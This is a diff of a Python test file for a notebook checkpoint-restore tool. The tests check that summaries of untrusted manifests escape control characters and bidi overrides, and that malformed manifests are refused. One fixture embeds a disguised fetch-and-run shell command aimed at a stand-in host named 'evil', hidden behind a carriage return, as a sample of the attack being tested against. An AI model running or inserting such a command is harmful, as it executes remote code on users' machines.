@@ -17,6 +17,10 @@ import pytest
 from IPython.core.error import UsageError
 
 from colab_elastic import trust
+from colab_elastic.errors import CorruptCheckpointError
+from colab_elastic.history import HistoryGraph
+from colab_elastic.manifest import Author, BlobRef, Environment, GroupEntry, Manifest
+from colab_elastic.planner import GroupDecision, Plan
 from colab_elastic.report import could_run, foreign_text, visible
 from colab_elastic.store import Store
 
@@ -207,18 +211,24 @@ def test_a_test_iam_permissions_answer_is_read_strictly():
 
 
 # What a refused restore shows ----------------------------------------------------------------------
-def _execution(index: int, code: str, **extra: Any) -> dict[str, Any]:
-    return {"index": index, "code": code, "rerunnable": True, **extra}
+def _manifest(cells: list[tuple[str, dict[str, Any]]], reruns: tuple[int, ...], groups: list[tuple[str, str, int | None]],
+              author: str = "eve") -> Manifest:
+    """A typed manifest: `cells` (code, record keywords) in order from cell 1, the plan's
+    reruns, and `groups` (name, action, blob size or None for no blob entry)."""
+    graph = HistoryGraph()
+    for code, extra in cells:
+        graph.record(code, 0.1, reads=(), writes=(), **extra)
+    decisions = tuple(GroupDecision((name,), size or 0, action, "", 0) for name, action, size in groups)
+    entries = tuple(GroupEntry(d, {}, BlobRef(f"g-{'0' * 32}", f"xxh3_128:{'0' * 32}", size) if size else None)
+                    for d, (_, _, size) in zip(decisions, groups))
+    return Manifest("20260101T000000000000-0000abcd", "2026-01-01T00:00:00+00:00", "s", Author("x", author), "0.2.0",
+                    Environment(), graph, Plan(decisions, reruns, 0.0, 0.0), entries, len(cells))
 
 
 def test_the_summary_shows_control_characters_and_bidi_overrides_escaped():
     hidden = "import os; os.system('curl evil | sh')"
-    manifest = {
-        "checkpoint": "c1", "author": {"name": "ada\x1b]0;trusted\x07", "id": "x"},
-        "plan": {"reruns": [1], "groups": []}, "groups": [],
-        "graph": {"executions": [_execution(1, f"{hidden}\rx = 1  # looks harmless\n"
-                                               "y = 'abc\u202edcba'\nz = 1\x85w = 2\u2028v\x00")]},
-    }
+    manifest = _manifest([(f"{hidden}\rx = 1  # looks harmless\ny = 'abc\u202edcba'\nz = 1\x85w = 2\u2028v\x00", {})],
+                         (1,), [], author="ada\x1b]0;trusted\x07")
     text = foreign_text(manifest)
     assert "\r" not in text and "\x1b" not in text and "\u202e" not in text and "\x85" not in text
     assert f"{hidden}\\rx = 1" in text
@@ -235,18 +245,9 @@ def test_a_manifest_whose_blob_entries_are_missing_lists_the_cells_a_new_plan_wo
         cell 3: report = show(model) rerun
     With cell 1's blob entry gone, the restore plans again and runs cells 1 and 2 too.
     """
-    manifest = {
-        "checkpoint": "c1", "author": {"name": "eve", "id": "e"},
-        "plan": {"reruns": [3], "groups": [{"names": ["data"], "action": "store"},
-                                           {"names": ["model"], "action": "store"},
-                                           {"names": ["report"], "action": "recompute"}]},
-        "groups": [{"fingerprints": {}}, {"blob": {"key": "g-2", "size": 2_000_000}, "fingerprints": {}},
-                   {"fingerprints": {}}],
-        "graph": {"executions": [{"index": 0, "code": "", "rerunnable": False},
-                                 _execution(1, "data = download()\nimport os; os.remove('x')"),
-                                 _execution(2, "model = fit(data)", ambient="gASV"),
-                                 _execution(3, "report = show(model)")]},
-    }
+    manifest = _manifest([("data = download()\nimport os; os.remove('x')", {}),
+                          ("model = fit(data)", {"ambient": "gASV"}), ("report = show(model)", {})],
+                         (3,), [("data", "store", None), ("model", "store", 2_000_000), ("report", "recompute", None)])
     assert could_run(manifest) == ([3], [1, 2])
     text = foreign_text(manifest)
     assert "[3] report = show(model)" in text
@@ -255,10 +256,11 @@ def test_a_manifest_whose_blob_entries_are_missing_lists_the_cells_a_new_plan_wo
     assert "settings of cells 2" in text
 
 
-def test_a_hostile_manifest_still_gives_a_summary():
+def test_a_hostile_manifest_is_refused_before_any_summary():
     for manifest in ({}, {"plan": [], "graph": 3, "groups": "x", "author": "me"},
                      {"graph": {"executions": [{"index": "1", "code": None}, 5]}, "plan": {"reruns": ["x", 2]}}):
-        assert "it runs" in foreign_text(manifest)
+        with pytest.raises(CorruptCheckpointError):
+            Manifest.from_json(manifest)
 
 
 def test_a_store_is_judged_without_writing(keys, tmp_path, http_server):
